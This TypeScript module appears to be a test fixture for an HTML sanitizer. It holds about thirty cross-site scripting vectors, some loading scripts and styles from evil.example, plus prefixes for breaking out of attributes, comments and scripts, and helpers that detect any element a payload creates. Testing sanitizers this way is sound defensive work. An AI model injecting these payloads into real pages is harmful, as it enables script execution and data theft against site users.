/** Markup that runs something wherever a text is taken for markup; whatever it makes is called `hit`. */
const vectors: readonly string[] = [
  '<script id=hit>alert(1)</script>',
  '<script id=hit src=//evil.example/x.js></script>',
  '<script id=hit src="data:text/javascript,alert(1)"></script>',
  '<script id=hit type=module>alert(1)</script>',
  '<img id=hit src=x onerror=alert(1)>',
  '<img id=hit src="javascript:alert(1)">',
  '<img id=hit src=//evil.example/x.png>',
  '<svg id=hit onload=alert(1)>',
  '<svg id=hit><script>alert(1)</script></svg>',
  '<svg id=hit><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg id=hit><use href="data:image/svg+xml;base64,PHN2Zz4=#x">',
  '<math id=hit><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe id=hit src="javascript:alert(1)"></iframe>',
  '<iframe id=hit srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object id=hit data="javascript:alert(1)"></object>',
  '<embed id=hit src="data:text/html,x">',
  '<a id=hit href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<form id=hit action="javascript:alert(1)"><button autofocus onfocus=alert(1)>',
  '<input id=hit autofocus onfocus=alert(1)>',
  '<details id=hit open ontoggle=alert(1)>',
  '<video id=hit><source onerror=alert(1)></video>',
  '<base id=hit href="//evil.example/">',
  '<meta id=hit http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link id=hit rel=stylesheet href="//evil.example/x.css">',
  '<style id=hit>@import "//evil.example/x.css"</style>',
  '<div id=hit style="background:url(javascript:alert(1))" onmouseover=alert(1)>',
  '<template id=hit><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img id=hit src=x onerror=alert(1)>">',
  '<x id=hit contenteditable onblur=alert(1)>',
  '<button id=hit popovertarget=x onclick=alert(1)>',
]

/** What a text may have to get out of first: an attribute, an element of its own, a comment, a script, a template. */
const ways: readonly string[] = [
  '',
  '">',
  "'>",
  '--><',
  '</script>',
  '</title></head><body>',
  '</style>',
  ']]>',
  '`+${',
  '&lt;',
]

/** Every vector by every way. */
export const payloads: readonly string[] = ways.flatMap((way) => vectors.map((vector) => way + vector))

const elements = ['iframe', 'object', 'embed', 'base']
const attributes = ['onerror', 'onload', 'onfocus', 'onclick', 'ontoggle']

/** Finds what a payload made of a page, if it made anything. */
export const made = ['#hit', ...elements, ...attributes.map((name) => `[${name}]`)].join(', ')

/** Lists what payloads made of a page; element by element, since jsdom takes long over many selectors at once. */
export const madeIn = (page: Document): readonly Element[] =>
  [...page.getElementsByTagName('*')].filter(
    (each) =>
      each.id === 'hit' ||
      elements.includes(each.localName) ||
      attributes.some((name) => each.hasAttribute(name)),
  )
